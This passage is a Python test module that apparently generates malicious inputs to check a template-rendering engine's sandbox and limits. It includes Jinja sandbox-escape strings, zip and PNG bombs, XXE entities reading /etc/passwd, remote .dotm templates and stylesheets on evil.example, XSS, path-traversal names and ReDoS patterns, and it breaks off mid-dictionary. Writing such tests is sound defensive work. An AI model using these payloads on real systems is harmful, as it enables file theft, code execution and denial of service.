"""Attacks on the engine, as data: each is a template folder, data, or a Word file that means harm."""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

HEAD = 'name = "t"\nversion = "1"\ntitle = "T"\n'
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

DATA: Mapping[str, Any] = {"name": "Oak", "items": [1, 2, 3], "customer": {"name": "Ash"}, "n": 3, "t": "ab"}


@dataclass(frozen=True)
class Attack:
    """A template and its data; what it may not do is take long, take much, or show anything but one sentence."""

    name: str
    files: Mapping[str, bytes]
    data: Any = field(default_factory=lambda: DATA)

    is_patient: bool = False

    @property
    def must_fail(self) -> bool:
        """Whether it would have reached what it must not if it were rendered."""
        return self.name.startswith(("escape", "word escape"))


class Patient(str):
    """A source that only the clock ends, or that is much work to refuse."""


def attacks() -> Iterator[Attack]:
    """Give all of them."""
    yield from _numbered("escape", _markdown, ESCAPES)
    yield from _numbered("word escape", _word_text, ESCAPES)
    yield from _numbered("growth", _markdown, GROWTHS)
    yield from _numbered("word growth", _word_text, GROWTHS)
    yield from _numbered("nesting", _markdown, NESTINGS)
    yield from _numbered("manifest", lambda head: _markdown("x\n", head=head), MANIFESTS)
    for name, content in WORD_FILES.items():
        yield Attack(f"word {name}", word_template(content), is_patient=name in PATIENT_WORD_FILES)
    for name, schema, data in SCHEMAS:
        yield Attack(f"schema {name}", _markdown("x\n", schema=schema), data, name in PATIENT_SCHEMAS)
    for name, files in _assets():
        yield Attack(f"asset {name}", files)
    for name, data in _bad_data():
        yield Attack(f"data {name}", _markdown("{{ v }}\n"), data, name in PATIENT_DATA)


def _numbered(kind: str, template: Callable[[str], dict[str, bytes]], sources: Sequence[str]) -> Iterator[Attack]:
    for number, source in enumerate(sources):
        yield Attack(f"{kind} {number}", template(source), is_patient=isinstance(source, Patient))


def _markdown(source: str, *, schema: Any = None, head: str = HEAD, **assets: bytes) -> dict[str, bytes]:
    written = schema if isinstance(schema, bytes) else json.dumps(schema if schema is not None else {}).encode()
    return {"template.toml": head.encode(), "template.md.j2": source.encode(), "schema.json": written, **assets}


def word_template(content: bytes) -> dict[str, bytes]:
    head = HEAD + 'formats = ["docx"]\n'
    return {"template.toml": head.encode(), "template.docx": content, "schema.json": b"{}"}


def _word_text(text: str) -> dict[str, bytes]:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace("\n", " ")
    return word_template(package(f'<w:p><w:r><w:t xml:space="preserve">{escaped}</w:t></w:r></w:p>'))


def package(body: str = "<w:p/>", *, relationships: str = "", types: str = "", **members: str | bytes) -> bytes:
    """Make a Word file; a member named `a__b` lies at `a/b`."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{types}'
        f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>',
    }
    if relationships:
        parts["word/_rels/document.xml.rels"] = (
            f'<Relationships xmlns="{PACKAGE}/relationships">{relationships}</Relationships>'
        )
    parts |= {name.replace("__", "/"): content for name, content in members.items()}
    return zipped(parts)


def zipped(parts: Mapping[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return buffer.getvalue()


# What must not be reached: Python behind the values, the environment behind the template.
ESCAPES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''['__class__'] }}",
    "{{ ''|attr('__class__') }}",
    "{{ (1).__class__ }}",
    "{{ [].__class__.__base__ }}",
    "{{ {}.__class__ }}",
    "{{ customer.__init__.__globals__ }}",
    "{{ customer.items.__self__ }}",
    "{{ customer.get.__func__ }}",
    "{{ customer['__class__']['__init__'] }}",
    "{{ items.append(4) }}",
    "{{ items.sort() }}",
    "{{ customer.update(a=1) }}",
    "{{ customer.pop('name') }}",
    "{{ customer.setdefault('a', 1) }}",
    "{{ name.format(1) }}",
    "{{ name.format_map(customer) }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(name) }}",
    "{{ '%(a)s' % customer }}",
    "{{ '%s' % [1] }}",
    "{{ '{}' | format(name) }}",
    "{{ name.translate({}) }}",
    "{{ name.encode() }}",
    "{{ name.maketrans }}",
    "{{ range.__class__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ namespace().__class__ }}",
    "{% set n = namespace() %}{% set n.__class__ = 1 %}{{ n }}",
    "{% set n = namespace(a=1) %}{{ n._Namespace__attrs }}",
    "{% set n = namespace({'__init__': 1}) %}{{ n.__init__ }}",
    "{{ self }}",
    "{{ self._TemplateReference__context }}",
    "{{ self.__init__.__globals__ }}",
    "{% macro m() %}{% endmacro %}{{ m.__globals__ }}",
    "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}",
    "{% macro m() %}{{ caller }}{% endmacro %}{% call m() %}{% endcall %}",
    "{% macro m() %}{{ varargs.__class__ }}{{ kwargs.__class__ }}{% endmacro %}{{ m(1, a=2) }}",
    "{% macro m() %}{% endmacro %}{{ m.name.__class__ }}",
    "{% for x in items %}{{ loop.__class__ }}{% endfor %}",
    "{% for x in items %}{{ loop._iterator }}{% endfor %}",
    "{% for x in items %}{{ loop.cycle.__globals__ }}{% endfor %}",
    "{{ items | map('__class__') | list }}",
    "{{ items | map(attribute='__class__') | list }}",
    "{{ items | map(attribute='__class__.__mro__') | list }}",
    "{{ items | groupby('__class__') }}",
    "{{ items | sort(attribute='__class__') }}",
    "{{ items | sum(attribute='__class__') }}",
    "{{ [customer] | selectattr('__class__') | list }}",
    "{{ [customer] | rejectattr('__init__') | list }}",
    "{{ items | map('attr', '__class__') | list }}",
    "{{ items | map('format') | list }}",
    "{{ items | unique(attribute='__class__') | list }}",
    "{{ customer | dictsort(by='__class__') }}",
    "{{ [customer, customer] | max(attribute='__class__') }}",
    "{{ name | default('a', true, __class__=1) }}",
    "{{ name | xmlattr }}",
    "{{ name | pprint }}",
    "{{ name | tojson }}",
    "{{ name | urlize }}",
    "{{ name | striptags }}",
    "{{ config }}",
    "{{ request.application }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ joiner }}",
    "{{ lipsum.__globals__.os }}",
    "{{ dict(a=1) }}",
    "{{ get_flashed_messages }}",
    "{{ __builtins__ }}",
    "{{ ' budget' }}{{ this[' budget'] }}",
    "{% include '/etc/passwd' %}",
    "{% import '/etc/passwd' as x %}",
    "{% from 'x' import y %}",
    "{% extends '../../etc/passwd' %}",
    "{% block a %}{% endblock %}",
    "{% autoescape false %}{{ name }}{% endautoescape %}",
    "{% do items.append(1) %}",
    "{% debug %}",
    "{{ missing.__class__ }}",
    "{{ (missing).x.y.z }}",
    "{{ customer.name.__class__.__base__ }}",
    "{% set x = ''.join %}{{ x.__self__ }}",
    "{% for k, v in customer.items() %}{{ v.__class__ }}{% endfor %}",
    "{{ name[::-1].__class__ }}",
    "{{ name.upper.__self__.__class__ }}",
    "{% filter upper %}{{ ''.__class__ }}{% endfilter %}",
    "{% set ns = namespace(f=name.upper) %}{{ ns.f.__class__ }}",
    "{% raw %}{{ x }}{% endraw %}{{ x.__class__ }}",
)

_DOUBLE = "{% for i in range(60) %}"
_END = "{% endfor %}\n"
# What must not grow: text, lists, numbers, calls, time.
GROWTHS = (
    "{{ 'a' * 10 ** 9 }}",
    "{{ 10 ** 9 * 'a' }}",
    "{{ [0] * 10 ** 9 }}",
    "{{ 'a' * 999999999 | int }}",
    "{{ '%1000000000d' % 1 }}",
    "{{ 'a'.center(10 ** 9) }}",
    "{{ 'a' | center(1000000000) }}",
    "{{ 'a'.ljust(10 ** 9) }}",
    "{{ 'a'.zfill(10 ** 9) }}",
    "{{ 'a'.rjust(10 ** 9) }}",
    "{{ 'a\t'.expandtabs(10 ** 9) }}",
    "{{ '{:>1000000000}'.format(1) }}",
    "{{ 'a' | indent(1000000000) }}",
    "{{ 'a' | wordwrap(1) }}",
    "{{ ('a' ~ 'b') | batch(1000000000, 'x') | list }}",
    "{{ range(10) | batch(1, 'x') | list }}",
    "{{ range(10) | slice(1000000000) | list }}",
    "{{ range(10 ** 9) | list }}",
    "{{ range(10 ** 9) | sum }}",
    "{{ range(0, 10 ** 18, 1) | join }}",
    "{{ range(90000) | map('string') | join | length }}",
    "{% for i in range(10 ** 9) %}{% endfor %}",
    "{% for i in range(90000) %}{% for j in range(90000) %}{% endfor %}{% endfor %}",
    Patient("{% for i in range(99999) %}{{ range(99999) | sum }}{% endfor %}"),
    Patient("{% for i in range(99999) %}{{ range(99999) | list | length }}{% endfor %}"),
    Patient("{% for i in range(99999) %}{{ range(99999) | sort | first }}{% endfor %}"),
    Patient("{% for i in range(99999) %}{{ range(99999) | max }}{% endfor %}"),
    "{% for i in range(99999) %}{{ 99998 in (range(99999) | list) }}{% endfor %}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ 2 ** 10 ** 10 }}",
    "{{ (-9) ** 999999999 }}",
    "{{ 9.9 ** 99999 }}",
    "{{ 1 / 10 ** 400 }}",
    "{{ (10 ** 4000) | number }}",
    "{{ 1e308 * 10 }}",
    "{{ 7 // 0 }}",
    "{{ 7 % 0 }}",
    "{% set n = namespace(v=3) %}" + _DOUBLE + "{% set n.v = n.v * n.v %}" + _END,
    "{% set n = namespace(v=3) %}" + _DOUBLE + "{% set n.v = n.v ** 3 %}" + _END,
    "{% set n = namespace(v='ab') %}" + _DOUBLE + "{% set n.v = n.v + n.v %}" + _END + "{{ n.v }}",
    "{% set n = namespace(v='ab') %}" + _DOUBLE + "{% set n.v = n.v ~ n.v %}" + _END + "{{ n.v }}",
    "{% set n = namespace(v='ab') %}" + _DOUBLE + "{% set n.v = [n.v, n.v] | join %}" + _END + "{{ n.v }}",
    "{% set n = namespace(v='ab') %}" + _DOUBLE + "{% set n.v = n.v | replace('a', n.v) %}" + _END,
    "{% set n = namespace(v='ab') %}" + _DOUBLE + "{% set n.v = n.v | replace('', n.v) %}" + _END,
    "{% set n = namespace(v='ab') %}" + _DOUBLE + "{% set n.v = n.v | upper ~ n.v %}" + _END,
    "{% set n = namespace(v='ß' ) %}"
    + _DOUBLE
    + "{% set n.v = (n.v ~ 'ß') | upper | lower %}{% set n.v = n.v ~ n.v %}"
    + _END,
    "{% set n = namespace(v=[1]) %}" + _DOUBLE + "{% set n.v = n.v + n.v %}" + _END,
    "{% set n = namespace(v=[1]) %}" + _DOUBLE + "{% set n.v = [n.v, n.v] %}" + _END + "{{ n.v | join }}",
    "{% set n = namespace(v=[1]) %}" + _DOUBLE + "{% set n.v = [n.v, n.v] %}" + _END + "{{ n.v | sort }}",
    "{% set n = namespace(v=[1]) %}" + _DOUBLE + "{% set n.v = [n.v, n.v] %}" + _END + "{{ n.v == n.v | list }}",
    "{% set n = namespace(v=[1]) %}{% for i in range(900) %}{% set n.v = [n.v] %}{% endfor %}{{ n.v | string }}",
    "{% set n = namespace(v=(1,)) %}" + _DOUBLE + "{% set n.v = n.v + n.v %}" + _END,
    "{% set n = namespace(v=range(90000) | list, k=[]) %}{% for i in range(3) %}{% set n.v = n.v + n.v %}{% endfor %}"
    "{% for i in range(999) %}{% set n.k = n.k + [n.v + [i]] %}{% endfor %}",
    "{% set n = namespace(v='x', k=[]) %}{% for i in range(20) %}{% set n.v = n.v ~ n.v %}{% endfor %}"
    "{% for i in range(999) %}{% set n.k = n.k + [n.v ~ i] %}{% endfor %}",
    "{% for i in range(99999) %}{{ 'x' }}{{ name }}{{ t }}aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa{% endfor %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% macro a() %}{{ b() }}{% endmacro %}{% macro b() %}{{ a() }}{% endmacro %}{{ a() }}",
    "{% macro m(x) %}{{ m(x + 1) }}{{ m(x + 1) }}{% endmacro %}{{ m(0) }}",
    Patient("{% macro m(x) %}{% if x %}{{ m(x - 1) }}{{ m(x - 1) }}{% endif %}{% endmacro %}{{ m(40) }}"),
    Patient("{% macro m(x) %}{% if x %}{{ m(x - 1) ~ m(x - 1) }}{% else %}ab{% endif %}{% endmacro %}{{ m(40) }}"),
    "{% for x in items recursive %}{{ loop(items) }}{% endfor %}",
    Patient("{% for x in [1] recursive %}{% if loop.depth < 60 %}{{ loop([1, 1]) }}{% endif %}{% endfor %}"),
    "{% set s %}{% for i in range(99999) %}aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa{% endfor %}{% endset %}{{ s ~ s }}",
    "{{ 1.5 | number(999999999) }}",
    "{{ 1 | money('EUR', 999999999) }}",
    "{{ '1' * 40 }}{{ '9999999999999999999999999999999999999999' | number }}",
    "{{ 1 | round(999999999) }}",
    Patient("{{ 1 | round(-999999999) }}"),
    "{{ '2026-01-01' | date('" + "y" * 100000 + "') }}",
    "{{ '2026-01-01' | date('" + "'" * 99999 + "') }}",
    "{{ items | map('replace', '', 'x') | list }}",
    "{{ items | join(' ' * 99999999) }}",
    "{{ name | truncate(10 ** 9) }}",
    "{{ 'a' | urlencode }}{{ 'a' | filesizeformat }}",
    "{{ range(99999) | groupby('x') }}",
    "{{ (range(99999) | list) | unique | list | length }}{{ (range(99999) | list) | reverse | list | length }}",
    Patient("{% for i in range(20000) %}{% set x = range(5000) | reverse | list %}{% endfor %}"),
    "{{ '" + "a" * 200_000 + "' | replace('a', '" + "b" * 200_000 + "') }}",
    "{% for c in '" + "a" * 99_999 + "' %}{% for d in '" + "a" * 99_999 + "' %}{% endfor %}{% endfor %}",
    Patient("{% for i in range(99999) %}{{ ('" + "a b " * 9_999 + "').split() | length }}{% endfor %}"),
    Patient("{% for i in range(99999) %}{{ ('" + "a" * 99_999 + "').upper() | length }}{% endfor %}"),
    "{{ t is divisibleby(0) }}",
    "{{ 3 is divisibleby 0 }}",
)

# What must not nest: Jinja, Markdown, directives.
NESTINGS = (
    "{{ " + "(" * 5_000 + "1" + ")" * 5_000 + " }}",
    "{{ " + "[" * 5_000 + "1" + "]" * 5_000 + " }}",
    "{{ " + "-" * 9_000 + "1 }}",
    "{{ " + "not " * 9_000 + "1 }}",
    "{{ " + "1+" * 20_000 + "1 }}",
    Patient("{{ " + "1~" * 20_000 + "1 }}"),
    "{{ a" + ".a" * 20_000 + " }}",
    "{{ n" + " | abs" * 9_000 + " }}",
    "{{ 1 if 1 else " * 2_000 + "1" + " }}" * 1,
    "{% if 1 %}" * 900 + "x" + "{% endif %}" * 900,
    "{% for x in items %}" * 25 + "x" + "{% endfor %}" * 25,
    Patient("{% for x in items %}" * 12 + "x" + "{% endfor %}" * 12),
    "{% set x %}" * 500 + "x" + "{% endset %}" * 500,
    "{% filter upper %}" * 500 + "x" + "{% endfilter %}" * 500,
    "{% macro m() %}" * 300 + "x" + "{% endmacro %}" * 300,
    ">" * 20_000 + " x\n",
    "> " * 20_000 + "x\n",
    "- " * 5_000 + "x\n",
    "".join(f"{'  ' * depth}- x\n" for depth in range(400)),
    Patient("*" * 50_000 + "x" + "*" * 50_000 + "\n"),
    Patient("*a " * 30_000 + "\n"),
    Patient("_a*b" * 20_000 + "\n"),
    Patient("**a" * 20_000 + "\n"),
    Patient("[" * 50_000 + "\n"),
    Patient("[" * 20_000 + "a" + "](b)" * 20_000 + "\n"),
    Patient("![" * 20_000 + "a" + "](b)" * 20_000 + "\n"),
    "<" * 50_000 + "\n",
    "<a " * 20_000 + "\n",
    Patient("&" * 100_000 + "\n"),
    "`" * 50_000 + "a" + "`" * 49_999 + "\n",
    "".join("`" * count + " " for count in range(1, 700)) + "\n",
    "\\" * 100_000 + "\n",
    "[a]: <" + "b" * 100_000 + "\n",
    "".join(f"[l{number}]: /u\n" for number in range(9_000)) + "".join(f"[l{number}] " for number in range(9_000)),
    Patient("| a " * 5_000 + "|\n" + "|-" * 5_000 + "|\n" + "| b " * 5_000 + "|\n"),
    Patient("| a | b |\n|---|---|\n" + "| c | d |\n" * 20_000),
    Patient("a\n" * 100_000),
    Patient("# a\n" * 20_000),
    "::: callout\n" * 500 + "x\n" + ":::\n" * 500,
    "".join(f"{':' * (503 - depth)} callout\n" for depth in range(500)) + "x\n",
    "::: callout {" + "a=1 " * 20_000 + "}\n:::\n",
    "::: nothing\n:::\n",
    '::: chart {data="items" label="x" value="y" title="t"}\n:::\n',
    "![x](../../../etc/passwd)\n",
    "![x](/etc/passwd)\n",
    "![x](file:///etc/passwd)\n",
    "![x](https://evil.example/pixel.png)\n",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)\n",
    '::: letterhead {logo="../../../etc/passwd"}\n:::\n',
    "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n",
    "[x](javascript:alert(1))\n",
    "[x](file:///etc/passwd)\n",
    "[x](\\\\share\\file)\n",
    "<javascript:alert(1)>\n",
    Patient("{{ name }}" * 20_000),
    "\U0010f100\U0010f000\U0010f101\n",
    "{{ '\U0010f100' }}\n",
    "{{ '\\x00\\x01\\x0b' }}\n",
    "{{ '\\ud800' }}\n",
    "{{ '\\ufffe' }}\n",
)

_LINK = '<Relationship Id="r9" Type="http://x/{}" Target="{}" TargetMode="External"/>'
_ENTITIES = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 10))


def _document(start: str, end: str = "</w:document>") -> bytes:
    """A Word file whose main part is written by hand."""
    parts = zipfile.ZipFile(io.BytesIO(package()))
    members: dict[str, str | bytes] = {name: parts.read(name) for name in parts.namelist()}
    members["word/document.xml"] = start + end
    return zipped(members)


def _lying_zip(size: int) -> bytes:
    """A member that unpacks to more than the directory says."""
    content = bytearray(package(word__media__a=bytes(5_000_000)))
    struct.pack_into("<I", content, content.rindex(b"PK\x01\x02") + 24, size)
    return bytes(content)


def _overlapping_zip() -> bytes:
    """Many directory entries for the same bytes: a quine-like bomb of little size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = bytes(20_000_000)
    packed = packer.compress(raw) + packer.flush()
    name = b"a"
    common = struct.pack("<4H3I2H", 0, 8, 0, 33, zlib.crc32(raw), len(packed), len(raw), len(name), 0)
    local = b"PK\x03\x04" + struct.pack("<H", 20) + common + name + packed
    entries = b"".join(
        b"PK\x01\x02"
        + struct.pack("<2H", 20, 20)
        + struct.pack("<4H3I", 0, 8, 0, 33, zlib.crc32(raw), len(packed), len(raw))
        + struct.pack("<5H2I", 4, 0, 0, 0, 0, 0, 0)
        + f"n{number:03}".encode()
        for number in range(999)
    )
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 999, 999, len(entries), len(local), 0)
    return local + entries + end


PATIENT_WORD_FILES = frozenset({"attributes", "many elements", "many tags", "many runs", "open braces"})
PATIENT_SCHEMAS = frozenset({"doubling", *(f"pattern {number}" for number in range(1, 7))})
PATIENT_DATA = frozenset({"many marks", "many lines", "one word", "wide", "directions"})
WORD_FILES: Mapping[str, bytes] = {
    "no zip": b"MZ not a zip",
    "empty": b"",
    "nested zip": zipped({"a.docx": package()}),
    "bomb": package(word__media__a=bytes(60_000_000)),
    "many bombs": package(**{f"word__media__b{number}": bytes(15_000_000) for number in range(12)}),
    "many members": package(**{f"word__m{number}": b"" for number in range(3_000)}),
    "lying member": _lying_zip(10),
    "lying large": _lying_zip(0xFFFFFFF0),
    "overlapping members": _overlapping_zip(),
    "long name": package(**{"x" * 60_000: b""}),
    "absolute name": package(**{"/etc/passwd": b"x"}),
    "climbing name": package(**{"../../evil": b"x"}),
    "backslash name": package(**{"..\\evil": b"x"}),
    "drive name": package(**{"C:evil": b"x"}),
    "null name": package(**{"a": b"x"}).replace(b"\x01\x00\x00\x00a", b"\x01\x00\x00\x00\x00"),
    "entities": _document(f'<!DOCTYPE w [<!ENTITY e0 "aaaaaaaaaa">{_ENTITIES}]><w:document xmlns:w="{WORD}">&e9;'),
    "external entity": _document(
        f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{WORD}">&x;'
    ),
    "parameter entity": _document(
        f'<!DOCTYPE w [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><w:document xmlns:w="{WORD}">'
    ),
    "external dtd": _document(f'<!DOCTYPE w SYSTEM "http://evil.example/x.dtd"><w:document xmlns:w="{WORD}">'),
    "include": package(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    ),
    "stylesheet": _document(f'<?xml-stylesheet href="http://evil.example/x.xsl"?><w:document xmlns:w="{WORD}">'),
    "deep": package("<w:p>" * 100_000 + "</w:p>" * 100_000),
    "deep tables": package("<w:tbl><w:tr><w:tc>" * 800 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 800),
    "attributes": package("<w:p " + " ".join(f'w:a{number}="x"' for number in range(200_000)) + "/>"),
    "long attribute": package(f'<w:p w:a="{"x" * 20_000_000}"/>'),
    "namespaces": package("<w:p " + " ".join(f'xmlns:n{number}="u{number}"' for number in range(50_000)) + "/>"),
    "many elements": package("<w:p/>" * 1_000_000),
    "long text": package(f"<w:p><w:r><w:t>{'a' * 20_000_000}</w:t></w:r></w:p>"),
    "many tags": package("<w:p><w:r><w:t>{{ name }}</w:t></w:r></w:p>" * 60_000),
    "open braces": package(f"<w:p><w:r><w:t>{'{{' * 200_000}</w:t></w:r></w:p>"),
    "split braces": package("<w:p>" + "<w:r><w:t>{</w:t></w:r>" * 50_000 + "</w:p>"),
    "many runs": package(
        "<w:p>" + "<w:r><w:t>{{</w:t></w:r><w:r><w:t> n }</w:t></w:r><w:r><w:t>}</w:t></w:r>" * 9_000 + "</w:p>"
    ),
    "macros": package(
        types='<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        **{"word__vbaProject.bin": b"x"},
    ),
    "docm": package(
        types='<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled"/>',
        **{"word/x.xml": "<a/>"},
    ),
    "remote template": package(relationships=_LINK.format("attachedTemplate", "https://evil.example/t.dotm")),
    "remote picture": package(relationships=_LINK.format("image", "https://evil.example/p.png")),
    "remote object": package(relationships=_LINK.format("oleObject", "https://evil.example/o.bin")),
    "remote frame": package(relationships=_LINK.format("frame", "https://evil.example/")),
    "remote document": package(relationships=_LINK.format("subDocument", "file:///etc/passwd")),
    "local link": package(relationships=_LINK.format("hyperlink", "file:///etc/passwd")),
    "share link": package(relationships=_LINK.format("hyperlink", "\\\\\\\\share\\\\x")),
    "script link": package(relationships=_LINK.format("hyperlink", "javascript:alert(1)")),
    "many links": package(
        relationships="".join(f'<Relationship Id="i{n}" Type="http://x/image" Target="m{n}"/>' for n in range(50_000))
    ),
    "escape in attribute": package("<w:p w:rsidR=\"{{ ''.__class__ }}\"><w:r><w:t>x</w:t></w:r></w:p>"),
    "value breaks out": package("<w:p><w:r><w:t>{{ '&lt;/w:t&gt;&lt;w:evil/&gt;' }}</w:t></w:r></w:p>"),
    "loop around cells": package(
        "<w:p><w:r><w:t>{% for i in range(99999) %}</w:t></w:r></w:p>"
        + "<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 50
        + "<w:p><w:r><w:t>{% endfor %}</w:t></w:r></w:p>"
    ),
    "rows without end": package(
        "<w:tbl>"
        + "".join(
            f"<w:tr><w:tc><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc></w:tr>"
            for text in ("{%tr for i in range(99999) %}", "{{ i }} " + "x" * 900, "{%tr endfor %}")
        )
        + "</w:tbl>"
    ),
}


def _pattern(pattern: str, value: str) -> tuple[Any, Any]:
    return {"type": "object", "properties": {"v": {"type": "string", "pattern": pattern}}}, {"v": value}


_DEEP_ALL = '{"allOf":[' * 2_000 + "{}" + "]}" * 2_000
SCHEMAS: tuple[tuple[str, Any, Any], ...] = (
    ("pattern 1", *_pattern("^(a+)+$", "a" * 40 + "b")),
    ("pattern 2", *_pattern("^(a|a)*$", "a" * 40 + "b")),
    ("pattern 3", *_pattern("^(([a-z])+.)+[A-Z]([a-z])+$", "a" * 60)),
    ("pattern 4", *_pattern("^(.*a){20}$", "a" * 40)),
    ("pattern 5", *_pattern("(x+x+)+y", "x" * 60)),
    ("pattern 6", *_pattern("((a{0,99}){0,99}){0,99}$", "a" * 99 + "b")),
    ("bad pattern", *_pattern("(", "x")),
    ("names", {"patternProperties": {"^(a+)+$": {}}}, {"a" * 40 + "b": 1}),
    ("self", {"$ref": "#"}, {"v": 1}),
    ("circle", {"$defs": {"a": {"$ref": "#/$defs/b"}, "b": {"$ref": "#/$defs/a"}}, "$ref": "#/$defs/a"}, {"v": 1}),
    ("children", {"$defs": {"a": {"anyOf": [{"$ref": "#/$defs/a"}] * 3}}, "$ref": "#/$defs/a"}, {"v": 1}),
    (
        "doubling",
        {
            "$defs": {f"d{n}": {"allOf": [{"$ref": f"#/$defs/d{n + 1}"}] * 2} for n in range(40)} | {"d40": {}},
            "$ref": "#/$defs/d0",
        },
        {"v": 1},
    ),
    ("remote", {"$ref": "https://evil.example/schema.json"}, {"v": 1}),
    ("file", {"$ref": "file:///etc/passwd"}, {"v": 1}),
    ("remote meta", {"$schema": "https://evil.example/schema.json"}, {"v": 1}),
    ("deep", _DEEP_ALL.encode(), {"v": 1}),
    ("deep array", b"[" * 100_000, {"v": 1}),
    ("no schema", b"3", {"v": 1}),
    ("unique", {"properties": {"v": {"uniqueItems": True}}}, {"v": [{"a": [n]} for n in range(3_000)]}),
    ("number", {"properties": {"v": {"multipleOf": 1e-300}}}, {"v": 1e300}),
    ("big number", {"properties": {"v": {"multipleOf": 0.01}}}, {"v": 10**300}),
    ("enum", {"properties": {"v": {"enum": [[n] for n in range(20_000)]}}}, {"v": [[-1]]}),
    ("dynamic", {"$dynamicAnchor": "a", "properties": {"v": {"$dynamicRef": "#a"}}}, {"v": {"v": {"v": 1}}}),
    ("format", {"properties": {"v": {"format": "regex"}}}, {"v": "(" * 9_000}),
    ("formats", {"properties": {"v": {"format": "email"}}}, {"v": "@" * 900_000}),
)

MANIFESTS = (
    "a = " + "[" * 20_000,
    Patient("a" + ".a" * 20_000 + " = 1\n"),
    HEAD + "x = 1\n" * 3,
    HEAD + f'description = "{"x" * 5_000_000}"\n',
    Patient(HEAD + "".join(f'[[passages]]\nname = "p{n}"\nsource = "x"\nfallback = "x"\n' for n in range(5_000))),
    HEAD + '[[passages]]\nname = "p"\nsource = "x"\nfallback = "{{ \'\'.__class__ }}"\n',
    Patient(
        HEAD + '[[passages]]\nname = "p"\nsource = "x"\n'
        'fallback = "{% for i in range(99999) %}{{ range(99999) | sum }}{% endfor %}"\n'
    ),
    HEAD + '[theme]\ndocx = "../../../etc/passwd"\n',
    HEAD + "[limits]\nmax_source_characters = 99999999999999\n",
    HEAD + 'locale = "../../../etc/passwd"\n',
    HEAD + 'date_field = "__class__.__mro__"\n',
    HEAD.replace('"t"', '"../t"'),
    "\x00" * 1_000,
)


def svg(content: str, attributes: str = 'width="10" height="10"') -> bytes:
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"<svg {names} {attributes}>{content}</svg>".encode()


def png_bomb(width: int, height: int) -> bytes:
    """A PNG of a few kilobytes that says it has gigabytes of pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">2I5B", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(1_000_000), 9))
        + chunk(b"IEND", b"")
    )


def _assets() -> Iterator[tuple[str, dict[str, bytes]]]:
    entities = f'<!DOCTYPE svg [<!ENTITY e0 "aaaaaaaaaa">{_ENTITIES}]>'.encode()
    use = "".join(f'<g id="g{n}">' + f'<use href="#g{n - 1}"/>' * 10 + "</g>" for n in range(1, 12))
    pictures = {
        "entities.svg": entities + svg("<text>&e9;</text>"),
        "script.svg": svg("<script>alert(1)</script>"),
        "handler.svg": svg('<rect onclick="alert(1)" width="1" height="1"/>'),
        "remote.svg": svg('<image href="https://evil.example/p.png" width="1" height="1"/>'),
        "local.svg": svg('<image xlink:href="file:///etc/passwd" width="1" height="1"/>'),
        "foreign.svg": svg("<foreignObject><p>x</p></foreignObject>"),
        "style.svg": svg("<style>@import url(https://evil.example/x.css);</style>"),
        "use.svg": svg(f'<defs><g id="g0"><rect width="1" height="1"/></g>{use}</defs><use href="#g11"/>'),
        "loop.svg": svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
        "deep.svg": svg("<g>" * 9_000 + "</g>" * 9_000),
        "huge.svg": svg("", 'width="1e30" height="1e30"'),
        "endless.svg": svg("", 'width="99999999999" height="99999999999"'),
        "filter.svg": svg(
            '<filter id="f"><feGaussianBlur stdDeviation="99999"/></filter>'
            '<rect filter="url(#f)" width="9" height="9"/>'
        ),
        "pattern.svg": svg(
            '<pattern id="p" width="0.00001" height="0.00001"><rect width="1" height="1"/></pattern>'
            '<rect fill="url(#p)" width="9" height="9"/>'
        ),
